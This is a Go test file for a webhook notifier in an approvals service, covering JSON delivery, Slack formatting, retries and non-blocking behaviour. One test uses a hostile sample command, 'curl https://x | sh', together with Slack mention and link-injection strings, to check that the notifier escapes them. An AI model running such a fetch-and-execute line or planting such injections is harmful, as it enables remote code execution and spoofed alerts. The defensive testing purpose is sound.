package approvals_test

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/bastion-dev/bastion/approvals"
)

// hook is a webhook endpoint that answers from a script of status codes
// (the last one repeats) and keeps the bodies it accepted.
type hook struct {
	mu       sync.Mutex
	statuses []int    // guarded by mu
	bodies   [][]byte // guarded by mu; accepted (2xx) bodies
	calls    atomic.Int32
}

func (h *hook) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.calls.Add(1)
	body, _ := io.ReadAll(r.Body)
	h.mu.Lock()
	defer h.mu.Unlock()
	st := h.statuses[0]
	if len(h.statuses) > 1 {
		h.statuses = h.statuses[1:]
	}
	if r.Header.Get("Content-Type") != "application/json" || r.Method != http.MethodPost {
		st = http.StatusBadRequest
	}
	if st < 300 {
		h.bodies = append(h.bodies, body)
	}
	w.WriteHeader(st)
}

func (h *hook) accepted() [][]byte {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.bodies
}

func newHook(t *testing.T, statuses ...int) (*hook, *httptest.Server) {
	h := &hook{statuses: statuses}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return h, srv
}

func sampleEvent(step approvals.Step) approvals.Event {
	r := request("sess-1", "kubectl delete pod canary-1")
	r.ID, r.Status = "apr_0123456789", approvals.Pending
	if step == approvals.StepApproved {
		r.Status, r.Decider, r.Comment = approvals.Approved, &bob, "ok"
	}
	return approvals.Event{Step: step, Request: r}
}

func closeHook(t *testing.T, w *approvals.Webhook) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := w.Close(ctx); err != nil {
		t.Fatalf("Close: %v", err)
	}
}

func TestWebhookPostsJSON(t *testing.T) {
	t.Parallel()
	h, srv := newHook(t, http.StatusOK)
	var evs events
	w := &approvals.Webhook{URL: srv.URL + "/hooks/secret-path", Audit: &evs, Header: http.Header{"X-Token": {"t"}}}
	w.Notify(context.Background(), sampleEvent(approvals.StepRequested))
	w.Notify(context.Background(), sampleEvent(approvals.StepApproved))
	closeHook(t, w)
	bodies := h.accepted()
	if len(bodies) != 2 {
		t.Fatalf("%d bodies delivered, want 2", len(bodies))
	}
	var got []struct {
		Step     string            `json:"step"`
		Approval approvals.Request `json:"approval"`
		Text     string            `json:"text"`
	}
	for _, b := range bodies {
		var m struct {
			Step     string            `json:"step"`
			Approval approvals.Request `json:"approval"`
			Text     string            `json:"text"`
		}
		if err := json.Unmarshal(b, &m); err != nil {
			t.Fatalf("body %s: %v", b, err)
		}
		got = append(got, m)
	}
	// In order, with the request and a sentence for people.
	if got[0].Step != "requested" || got[1].Step != "approved" || got[0].Approval.Command != "kubectl delete pod canary-1" ||
		got[1].Approval.Decider == nil || !strings.Contains(got[0].Text, "bastion approvals approve apr_0123456789") {
		t.Errorf("bodies = %+v", got)
	}
	ev, ok := evs.find("apr_0123456789", "notified")
	if !ok || ev.Detail["delivered"] != true || ev.Detail["attempts"] != 1 || ev.Detail["event"] != "requested" {
		t.Errorf("notified event = %+v", ev)
	}
	// The URL path may be the secret: it is never logged or audited.
	for _, e := range evs.evs {
		if strings.Contains(e.Detail["endpoint"].(string), "secret-path") {
			t.Errorf("audit event carries the webhook path: %+v", e)
		}
	}
}

func TestWebhookSlackPayload(t *testing.T) {
	t.Parallel()
	h, srv := newHook(t, http.StatusOK)
	w := &approvals.Webhook{URL: srv.URL, Slack: true}
	ev := sampleEvent(approvals.StepRequested)
	ev.Request.Command = "curl https://x | sh # <!channel> <https://evil|click> ```"
	ev.Request.AgentReason = "deploy & <@U123>"
	w.Notify(context.Background(), ev)
	closeHook(t, w)
	bodies := h.accepted()
	if len(bodies) != 1 {
		t.Fatalf("%d bodies, want 1", len(bodies))
	}
	var msg struct {
		Text   string `json:"text"`
		Blocks []struct {
			Type string `json:"type"`
			Text struct {
				Type, Text string
			} `json:"text"`
			Elements []struct{ Type, Text string } `json:"elements"`
		} `json:"blocks"`
	}
	if err := json.Unmarshal(bodies[0], &msg); err != nil {
		t.Fatal(err)
	}
	if msg.Text == "" || len(msg.Blocks) != 3 || msg.Blocks[0].Type != "section" || msg.Blocks[2].Type != "context" {
		t.Fatalf("slack message = %s", bodies[0])
	}
	all := string(bodies[0])
	// Agent text cannot mention people or plant links: Slack's control
	// characters are escaped everywhere.
	for _, bad := range []string{"<!channel>", "<https://evil", "<@U123>", "deploy & "} {
		if strings.Contains(all, bad) {
			t.Errorf("slack payload carries %q unescaped: %s", bad, all)
		}
	}
	if !strings.Contains(msg.Blocks[1].Text.Text, "&lt;!channel&gt;") || strings.Count(msg.Blocks[1].Text.Text, "```") != 2 {
		t.Errorf("command block = %q", msg.Blocks[1].Text.Text)
	}
}

// 500s, then success: delivered on the third attempt.
func TestWebhookRetriesThenDelivers(t *testing.T) {
	t.Parallel()
	h, srv := newHook(t, 500, 503, 200)
	var evs events
	w := &approvals.Webhook{URL: srv.URL, Backoff: time.Millisecond, Audit: &evs}
	w.Notify(context.Background(), sampleEvent(approvals.StepRequested))
	closeHook(t, w)
	if n := h.calls.Load(); n != 3 || len(h.accepted()) != 1 {
		t.Fatalf("%d calls, %d accepted; want 3 and 1", n, len(h.accepted()))
	}
	ev, _ := evs.find("apr_0123456789", "notified")
	if ev.Detail["delivered"] != true || ev.Detail["attempts"] != 3 || ev.Detail["http_status"] != 200 {
		t.Errorf("notified event = %+v", ev.Detail)
	}
}

// Always failing: the attempts are bounded and the failure is audited.
func TestWebhookGivesUp(t *testing.T) {
	t.Parallel()
	h, srv := newHook(t, 500)
	var evs events
	w := &approvals.Webhook{URL: srv.URL, Backoff: time.Millisecond, Attempts: 4, Audit: &evs}
	w.Notify(context.Background(), sampleEvent(approvals.StepRequested))
	closeHook(t, w)
	if n := h.calls.Load(); n != 4 {
		t.Fatalf("%d calls, want 4", n)
	}
	ev, _ := evs.find("apr_0123456789", "notified")
	if ev.Detail["delivered"] != false || ev.Detail["attempts"] != 4 || !strings.Contains(ev.Detail["error"].(string), "500") {
		t.Errorf("notified event = %+v", ev.Detail)
	}
}

// Total time is bounded too, whatever the attempts.
func TestWebhookMaxElapsed(t *testing.T) {
	t.Parallel()
	h, srv := newHook(t, 500)
	var evs events
	w := &approvals.Webhook{URL: srv.URL, Backoff: 40 * time.Millisecond, Attempts: 100, MaxElapsed: 100 * time.Millisecond, Audit: &evs}
	start := time.Now()
	w.Notify(context.Background(), sampleEvent(approvals.StepRequested))
	closeHook(t, w)
	if el := time.Since(start); el > 5*time.Second {
		t.Fatalf("gave up after %v", el)
	}
	if n := h.calls.Load(); n < 2 || n > 4 { // 0, 40ms, 120ms: the third wait passes the bound
		t.Errorf("%d calls within 100ms of backoff 40ms doubling", n)
	}
	if ev, _ := evs.find("apr_0123456789", "notified"); ev.Detail["delivered"] != false {
		t.Errorf("notified event = %+v", ev.Detail)
	}
}

// A 4xx other than 408/429 is not retried: the request will not get better.
func TestWebhookPermanentFailure(t *testing.T) {
	t.Parallel()
	h, srv := newHook(t, http.StatusNotFound)
	w := &approvals.Webhook{URL: srv.URL, Backoff: time.Millisecond}
	w.Notify(context.Background(), sampleEvent(approvals.StepRequested))
	closeHook(t, w)
	if n := h.calls.Load(); n != 1 {
		t.Fatalf("%d calls, want 1", n)
	}
}

// An endpoint that hangs blocks neither the request nor its decision, and
// Close with a deadline abandons the delivery.
func TestWebhookNeverBlocksDecisions(t *testing.T) {
	t.Parallel()
	release := make(chan struct{})
	var calls atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	t.Cleanup(func() { close(release); srv.Close() })
	ctx := context.Background()
	w := &approvals.Webhook{URL: srv.URL, QueueSize: 2}
	svc := &approvals.Service{Store: openStore(t, dbPath(t)), Notifiers: []approvals.Notifier{w}, Poll: 10 * time.Millisecond}

	// The endpoint hangs until the test ends: creating and deciding
	// finish at all only because they never wait for it. The watchdog
	// turns a regression into a failure instead of a hung test; it is not
	// a timing figure.
	decided := make(chan struct{})
	go func() {
		defer close(decided)
		var ids []string
		for range 5 { // more than the queue holds: extra events are dropped, not waited for
			r, err := svc.Create(ctx, request("s", "kubectl delete pod x"))
			if err != nil {
				t.Error(err)
				return
			}
			ids = append(ids, r.ID)
		}
		done := waitAsync(ctx, svc, ids[0])
		if _, err := svc.Approve(ctx, ids[0], bob, "", 0); err != nil {
			t.Error(err)
			return
		}
		if r := <-done; r.err != nil || r.r.Status != approvals.Approved {
			t.Errorf("Wait = %+v, %v", r.r, r.err)
		}
	}()
	select {
	case <-decided:
	case <-time.After(30 * time.Second):
		t.Fatal("creating and deciding waited for a hanging webhook")
	}
	// The first delivery is in flight (it hangs); wait until it has
	// reached the endpoint, which a loaded machine may take a while to do.
	for deadline := time.Now().Add(10 * time.Second); calls.Load() == 0 && time.Now().Before(deadline); {
		time.Sleep(10 * time.Millisecond)
	}
	cctx, cancel := context.WithTimeout(ctx, 100*time.Millisecond)
	defer cancel()
	if err := w.Close(cctx); !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("Close with a hanging endpoint = %v, want DeadlineExceeded", err)
	}
	if calls.Load() != 1 {
		t.Errorf("%d deliveries started, want 1 (in order, one at a time)", calls.Load())
	}
	w.Notify(ctx, sampleEvent(approvals.StepRequested)) // after Close: dropped, no panic
}
